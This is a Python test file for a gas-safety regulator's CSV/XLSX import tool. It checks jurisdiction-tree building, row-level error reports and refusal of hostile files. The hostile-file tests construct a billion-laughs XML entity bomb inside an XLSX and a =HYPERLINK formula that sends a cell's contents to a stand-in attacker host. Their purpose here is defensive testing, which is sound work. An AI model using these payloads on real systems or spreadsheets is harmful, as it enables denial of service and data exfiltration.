"""`gasguard regulator import` on real SQLite and PostgreSQL: the file a district keeps (CSV or
XLSX, Chinese or English headers) becomes the jurisdiction tree, units, devices and detectors;
a bad file is refused whole, naming each bad row; a hostile one is refused before it costs."""

from __future__ import annotations

import argparse
import csv
import datetime
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from gasguard.regulator import registry, sheet
from gasguard.regulator.store import open_store

ZH = [
    "站点编号",
    "单位名称",
    "地址",
    "用气类型",
    "负责人",
    "联系电话",
    "市",
    "区",
    "街道",
    "网格",
    "设备编号",
    "探测器地址",
    "探测气体",
    "安装高度(米)",
    "层高(米)",
    "水平距离(米)",
    "是否在灶具上方",
    "安装日期",
    "执行标准",
]
HOTPOT = [
    "sh-xuhui-0042",
    "海底捞(徐汇店)",
    "徐汇区漕溪北路88号",
    "天然气",
    "王伟",
    "021-64381234",
    "上海市",
    "徐汇区",
    "湖南路街道",
    "第3网格",
]
NOODLE = [
    "sh-xuhui-0043",
    "兰州拉面",
    "徐汇区天钥桥路12号",
    "液化石油气",
    "马明",
    "13800138000",
    "上海市",
    "徐汇区",
    "天平路街道",
    "第1网格",
]
GOOD = [
    HOTPOT
    + ["hotpot-88-main", "1", "甲烷", "3.0", "3.2", "2.5", "否", "2026-09-15", "GB 15322.1-2019"],
    HOTPOT
    + ["hotpot-88-main", "2", "甲烷", "3.05", "3.2", "1.2", "否", "2026/9/15", "GB 15322.1-2019"],
    NOODLE + ["", "", "", "", "", "", "", "", ""],  # registered, no detector yet
]


def write_csv(path: Path, header: list, rows: list, encoding: str = "utf-8") -> Path:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, header: list, rows: list) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def run(db: str, file: Path, *extra: str) -> tuple[int, str, str]:
    parser = argparse.ArgumentParser(prog="gasguard")
    rs = (
        parser.add_subparsers(dest="command")
        .add_parser("regulator")
        .add_subparsers(dest="action", required=True)
    )
    registry.register_import(rs)
    args = parser.parse_args(["regulator", "import", "--db", db, str(file), *extra])
    out, err = io.StringIO(), io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = args.run(args)
    return code, out.getvalue(), err.getvalue()


def table(db: str, name: str, order: str) -> list[dict]:
    store = open_store(db, create=True)
    try:
        return store.rows("SELECT * FROM %s ORDER BY %s" % (name, order))
    finally:
        store.close()


def everything(db: str) -> dict:
    return {
        "nodes": table(db, "nodes", "id"),
        "units": table(db, "units", "site"),
        "unit_devices": table(db, "unit_devices", "site, device"),
        "unit_detectors": table(db, "unit_detectors", "site, device, address"),
    }


# --- what a district's file becomes ------------------------------------------------------------


def test_a_csv_with_chinese_headers_becomes_the_tree_units_devices_and_detectors(db_url, tmp_path):
    code, out, err = run(db_url, write_csv(tmp_path / "徐汇.csv", ZH, GOOD))
    assert (code, err) == (0, "")
    assert "imported 2 units (2 new), 1 devices, 2 detectors" in out
    nodes = {r["id"]: (r["parent"], r["level"], r["name"]) for r in table(db_url, "nodes", "id")}
    assert nodes["上海市/徐汇区/湖南路街道/第3网格"] == (
        "上海市/徐汇区/湖南路街道",
        "grid",
        "第3网格",
    )
    assert nodes["上海市/徐汇区"] == ("上海市", "district", "徐汇区")
    assert nodes["上海市"] == (None, "city", "上海市")
    assert len(nodes) == 6  # one city, one district, two streets, two grids
    units = {r["site"]: r for r in table(db_url, "units", "site")}
    assert units["sh-xuhui-0042"]["gas"] == "ng" and units["sh-xuhui-0043"]["gas"] == "lpg"
    assert units["sh-xuhui-0042"]["name"] == "海底捞(徐汇店)"
    assert units["sh-xuhui-0043"]["phone"] == "13800138000"
    assert units["sh-xuhui-0042"]["node"] == "上海市/徐汇区/湖南路街道/第3网格"
    dets = table(db_url, "unit_detectors", "address")
    assert [(d["address"], d["gas"], d["mount_height_m"], d["installed"]) for d in dets] == [
        (1, "methane", 3.0, "2026-09-15"),
        (2, "methane", 3.05, "2026-09-15"),  # 2026/9/15: year first, so not ambiguous
    ]
    assert table(db_url, "unit_devices", "site") == [
        {"site": "sh-xuhui-0042", "device": "hotpot-88-main"}
    ]


def test_an_xlsx_with_english_headers_date_and_number_cells_and_a_city_option(db_url, tmp_path):
    header = [
        "Site",
        "Name",
        "Address",
        "Gas",
        "Responsible",
        "Phone",
        "District",
        "Street",
        "Grid",
        "Device",
        "Detector_Address",
        "Detector_Gas",
        "Installed",
        "Lat",
        "Lon",
        "序号",
    ]
    rows = [
        [
            "bj-cy-0001",
            "Golden Wok",
            "1 Sanlitun Rd",
            "LPG",
            "Li Na",
            13912345678,
            "Chaoyang",
            "Sanlitun",
            "Grid 7",
            "wok-1",
            3,
            "propane",
            datetime.datetime(2026, 3, 1),
            39.93,
            116.45,
            1,
        ]
    ]
    code, out, err = run(
        db_url, write_xlsx(tmp_path / "cy.xlsx", header, rows), "--city", "Beijing", "--json"
    )
    assert (code, err) == (0, "")
    assert json.loads(out) == {
        "imported": {"units": 1, "new_units": 1, "devices": 1, "detectors": 1, "nodes": 4},
        "ignored_columns": ["序号"],
    }
    (unit,) = table(db_url, "units", "site")
    assert (unit["phone"], unit["node"], unit["lat"]) == (
        "13912345678",
        "Beijing/Chaoyang/Sanlitun/Grid 7",
        39.93,
    )
    (det,) = table(db_url, "unit_detectors", "site")
    assert (det["address"], det["gas"], det["installed"]) == (3, "propane", "2026-03-01")


def test_a_csv_excel_saved_in_gbk_on_a_chinese_windows_reads(db_url, tmp_path):
    code, out, err = run(db_url, write_csv(tmp_path / "gbk.csv", ZH, GOOD, encoding="gb18030"))
    assert (code, err) == (0, "")
    assert {r["name"] for r in table(db_url, "units", "site")} == {"海底捞(徐汇店)", "兰州拉面"}


def test_importing_again_is_idempotent_and_the_file_is_each_units_whole_record(db_url, tmp_path):
    f = write_csv(tmp_path / "a.csv", ZH, GOOD)
    assert run(db_url, f)[0] == 0
    first = everything(db_url)
    code, out, _ = run(db_url, f)
    assert code == 0 and "(0 new)" in out
    assert everything(db_url) == first
    # the unit changes hands and loses detector 2; a unit from another district stays
    other = [
        "sh-minhang-0001",
        "小南国",
        "闵行区1号",
        "天然气",
        "周",
        "021-1234567",
        "上海市",
        "闵行区",
        "古美街道",
        "第2网格",
    ] + [""] * 9
    assert run(db_url, write_csv(tmp_path / "mh.csv", ZH, [other]))[0] == 0
    changed = [GOOD[0][:4] + ["赵六", "021-64380000"] + GOOD[0][6:], GOOD[2]]
    assert run(db_url, write_csv(tmp_path / "b.csv", ZH, changed))[0] == 0
    units = {r["site"]: r for r in table(db_url, "units", "site")}
    assert units["sh-xuhui-0042"]["responsible"] == "赵六"
    assert "sh-minhang-0001" in units
    assert [d["address"] for d in table(db_url, "unit_detectors", "address")] == [1]


def test_the_registry_joins_what_the_ingest_knows_of_a_device(db_url, tmp_path):
    run(db_url, write_csv(tmp_path / "a.csv", ZH, GOOD))
    store = open_store(db_url)
    try:
        store.x(
            "INSERT INTO devices (site, device, online, last_seen, instance, fw) VALUES "
            "(?,?,?,?,?,?)",
            (
                "sh-xuhui-0042",
                "hotpot-88-main",
                1,
                "2026-10-01T08:00:00.000Z",
                "00000000000000a1",
                "1.4.0",
            ),
        )
        view = registry.unit_view(store, "sh-xuhui-0042")
        assert registry.unit_view(store, "nobody") is None
    finally:
        store.close()
    assert view["path"] == ["上海市", "徐汇区", "湖南路街道", "第3网格"]
    (dev,) = view["devices"]
    assert dev["heard"]["fw"] == "1.4.0" and dev["heard"]["online"] == 1
    assert [d["address"] for d in dev["detectors"]] == [1, 2]


# --- a bad file: every problem named, nothing imported ------------------------------------------


def test_a_missing_column_is_named_in_both_spellings_and_nothing_is_imported(db_url, tmp_path):
    header = [h for h in ZH if h != "用气类型"]
    rows = [[c for i, c in enumerate(r) if ZH[i] != "用气类型"] for r in GOOD]
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", header, rows))
    assert code == 2
    assert "missing column 用气类型 (gas)" in err and "nothing imported" in err
    assert table(db_url, "units", "site") == []


def test_no_city_column_and_no_city_option_says_which(db_url, tmp_path):
    header = [h for h in ZH if h != "市"]
    rows = [[c for i, c in enumerate(r) if ZH[i] != "市"] for r in GOOD]
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", header, rows))
    assert code == 2 and "missing column 市 (city) (or give --city)" in err
    assert run(db_url, tmp_path / "a.csv", "--city", "上海市")[0] == 0


def test_bad_rows_are_reported_by_row_number_with_the_reason_and_none_imported(db_url, tmp_path):
    bad = [list(r) for r in GOOD] + [list(GOOD[0]) for _ in range(4)]
    bad[3][3] = "人工煤气"  # row 5: a gas GasGuard detects none of
    bad[3][0] = "sh-xuhui-0099"
    bad[4][0], bad[4][17] = "sh-xuhui-0100", "15/09/2026"  # row 6: day first
    bad[5][0], bad[5][5] = "sh-xuhui-0101", "call me"  # row 7
    bad[6][0], bad[6][13] = "sh-xuhui-0102", "3米"  # row 8
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", ZH, bad))
    assert code == 2
    code, out, _ = run(db_url, tmp_path / "a.csv", "--json")
    doc = json.loads(out)
    assert (code, doc["error"], len(doc["problems"])) == (2, "4 problems; nothing imported", 4)
    assert 'row 5, 用气类型: "人工煤气" is not one of' in err
    assert 'row 6, 安装日期: "15/09/2026" is not a date: write it as YYYY-MM-DD' in err
    assert 'row 7, 联系电话: "call me" is not a phone number' in err
    assert 'row 8, 安装高度(米): "3米" is not a number' in err
    assert "row 2" not in err  # the good rows are not blamed ...
    assert table(db_url, "units", "site") == []  # ... and not imported either


def test_duplicates_and_a_unit_whose_rows_disagree_are_refused(db_url, tmp_path):
    rows = [GOOD[0], GOOD[1], GOOD[0], GOOD[1][:4] + ["李四"] + GOOD[1][5:]]
    rows[3] = list(rows[3])
    rows[3][11] = "9"
    other = list(NOODLE) + ["hotpot-88-main", "1", "丙烷"] + [""] * 6  # the device, elsewhere
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", ZH, rows + [other]))
    assert code == 2
    assert (
        "row 4: the same detector as row 2 (站点编号 sh-xuhui-0042, 设备编号 hotpot-88-main, "
        "探测器地址 1)" in err
    )
    assert "row 5, 负责人: differs from row 2 for the same 站点编号 sh-xuhui-0042" in err
    assert "row 6, 设备编号: hotpot-88-main is also under 站点编号 sh-xuhui-0042 in row 2" in err
    assert table(db_url, "units", "site") == []


def test_a_detector_without_its_device_is_refused_not_dropped(db_url, tmp_path):
    rows = [list(GOOD[0])]
    rows[0][10] = ""  # 设备编号 left out, the detector's columns filled in
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", ZH, rows))
    assert code == 2
    assert "row 2, 设备编号: empty, but 探测器地址, 探测气体, 安装高度(米)" in err
    assert table(db_url, "units", "site") == []


def test_a_site_id_that_is_no_topic_name_and_control_characters_are_refused(db_url, tmp_path):
    rows = [list(GOOD[0]), list(GOOD[2])]
    rows[0][0] = "sh xuhui/42"
    rows[1][1] = "兰州\x07拉面"
    code, _, err = run(db_url, write_csv(tmp_path / "a.csv", ZH, rows))
    assert code == 2
    assert 'row 2, 站点编号: "sh xuhui/42": 1-32 of A-Z a-z 0-9 _ . : -' in err
    assert "row 3, 单位名称: control characters" in err


# --- hostile files -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content, says",
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "Excel 97-2003 (.xls)"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a binary file"),
        (b"", "empty: no header row"),
    ],
)
def test_a_file_that_is_not_csv_or_xlsx_is_named_for_what_it_is(tmp_path, content, says):
    f = tmp_path / "units.xlsx"  # the name says XLSX; the bytes decide
    f.write_bytes(content)
    code, _, err = run(str(tmp_path / "r.db"), f)
    assert code == 2 and says in err


def test_a_zip_that_is_no_workbook_and_a_broken_one(tmp_path):
    z = tmp_path / "units.xlsx"
    with zipfile.ZipFile(z, "w") as w:
        w.writestr("readme.txt", "hello")
    code, _, err = run(str(tmp_path / "r.db"), z)
    assert code == 2 and "a ZIP file but not an XLSX workbook" in err
    good = write_xlsx(tmp_path / "g.xlsx", ZH, GOOD)
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(good.read_bytes()[:600])
    code, _, err = run(str(tmp_path / "r.db"), cut)
    assert code == 2 and "XLSX" in err
    code, _, err = run(str(tmp_path / "r.db"), tmp_path)
    assert code == 2 and "a directory" in err


def test_a_huge_file_is_refused_by_size_rows_and_unzipped_size(tmp_path, monkeypatch):
    f = write_csv(tmp_path / "a.csv", ZH, GOOD * 40)
    monkeypatch.setattr(sheet, "MAX_BYTES", 1000)
    code, _, err = run(str(tmp_path / "r.db"), f)
    assert code == 2 and "over the 0 MiB an import takes" in err
    monkeypatch.setattr(sheet, "MAX_BYTES", 20 * 1024 * 1024)
    monkeypatch.setattr(sheet, "MAX_ROWS", 100)
    code, _, err = run(str(tmp_path / "r.db"), f)
    assert code == 2 and "over 100 rows" in err
    x = write_xlsx(tmp_path / "a.xlsx", ZH, GOOD * 40)
    code, _, err = run(str(tmp_path / "r.db"), x)
    assert code == 2 and "over 100 rows" in err
    monkeypatch.setattr(sheet, "MAX_UNZIPPED_BYTES", 10_000)
    code, _, err = run(str(tmp_path / "r.db"), x)
    assert code == 2 and "unzips to" in err
    assert not (tmp_path / "r.db").exists()  # refused before the database is even opened


def test_an_xlsx_entity_bomb_is_refused_not_expanded(tmp_path):
    """A billion laughs in the sheet's XML: the XML parser stops it (expat's amplification
    limit); the import names the file as unreadable."""
    good = write_xlsx(tmp_path / "g.xlsx", ZH, GOOD)
    ents = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        '<!ENTITY a%d "%s">' % (i, ("&a%d;" % (i - 1)) * 10) for i in range(1, 10)
    )
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(good) as z, zipfile.ZipFile(bomb, "w") as out:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = ('<?xml version="1.0"?><!DOCTYPE worksheet [%s]>' % ents).encode() + (
                    data.replace("<t>兰州拉面</t>".encode(), b"<t>&a9;</t>")
                )
            out.writestr(info, data)
    code, _, err = run(str(tmp_path / "r.db"), bomb)
    assert code == 2 and "not a readable XLSX workbook" in err


def test_a_cell_of_a_megabyte_is_refused_not_parsed(tmp_path):
    rows = [list(GOOD[2])]
    rows[0][2] = "x" * 1_000_000
    code, _, err = run(str(tmp_path / "r.db"), write_csv(tmp_path / "a.csv", ZH, rows))
    assert code == 2 and "a cell over 1000 characters" in err


def test_formula_cells_are_never_evaluated_and_kept_as_text(db_url, tmp_path):
    rows = [list(GOOD[2])]
    rows[0][1] = '=HYPERLINK("http://evil.example/?"&A1,"兰州拉面")'
    rows[0][2] = "=1+1"
    x = write_xlsx(tmp_path / "f.xlsx", ZH, rows)
    code, _, err = run(db_url, x)
    assert (code, err) == (0, "")
    (unit,) = table(db_url, "units", "site")
    assert unit["name"] == '=HYPERLINK("http://evil.example/?"&A1,"兰州拉面")'
    assert unit["address"] == "=1+1"  # not 2: openpyxl gives the formula, nothing runs it
    # and whatever exports it writes it so a spreadsheet shows it, never runs it
    assert registry.csv_safe(unit["name"]).startswith("'=HYPERLINK")
    assert registry.csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert registry.csv_safe("海底捞") == "海底捞" and registry.csv_safe(3.5) == 3.5
    rows[0][0] = "=A1"  # a formula where an id goes: refused as any bad id
    code, _, err = run(db_url, write_xlsx(tmp_path / "g.xlsx", ZH, rows))
    assert code == 2 and 'row 2, 站点编号: "=A1"' in err


def test_the_same_column_twice_is_refused(tmp_path):
    header = ZH + ["Name"]
    code, _, err = run(
        str(tmp_path / "r.db"), write_csv(tmp_path / "a.csv", header, [r + ["x"] for r in GOOD])
    )
    assert code == 2 and "columns '单位名称' and 'Name' are both 单位名称 (name)" in err


def test_a_database_that_is_not_a_regulator_one_is_refused(tmp_path):
    import sqlite3

    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE payroll (x)").connection.commit()
    code, _, err = run(str(other), write_csv(tmp_path / "a.csv", ZH, GOOD))
    assert code == 2 and "not a regulator database" in err


def test_import_registers_under_a_regulator_parser_with_its_own_default():
    parser = argparse.ArgumentParser(prog="gasguard")
    r = parser.add_subparsers(dest="command").add_parser("regulator")
    rs = r.add_subparsers(dest="action", required=True)
    registry.register_import(rs)
    r.set_defaults(run=lambda args: "watch or export")  # what tools/regulator.py does
    args = parser.parse_args(["regulator", "import", "--db", "r.db", "f.csv"])
    assert args.run is registry.main_import


def test_import_and_compliance_as_commands_with_their_exit_codes(tmp_path):
    """As a regulator runs them (`python -m gasguard.regulator`, until `gasguard regulator`
    registers them): a refused file is exit 2, a unit with findings exit 1."""
    import subprocess
    import sys

    db = str(tmp_path / "r.db")

    def cli(*argv: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "gasguard.regulator", *argv],
                              capture_output=True, text=True, timeout=60)  # fmt: skip

    bad = write_csv(tmp_path / "bad.csv", ZH[1:], [r[1:] for r in GOOD])
    p = cli("import", "--db", db, str(bad))
    assert p.returncode == 2 and "missing column 站点编号 (site)" in p.stderr
    p = cli("import", "--db", db, str(write_csv(tmp_path / "a.csv", ZH, GOOD)))
    assert p.returncode == 0, p.stderr
    p = cli("compliance", "--db", db, "--evaluate", "--json")
    assert p.returncode == 1 and json.loads(p.stdout)["open"] >= 2
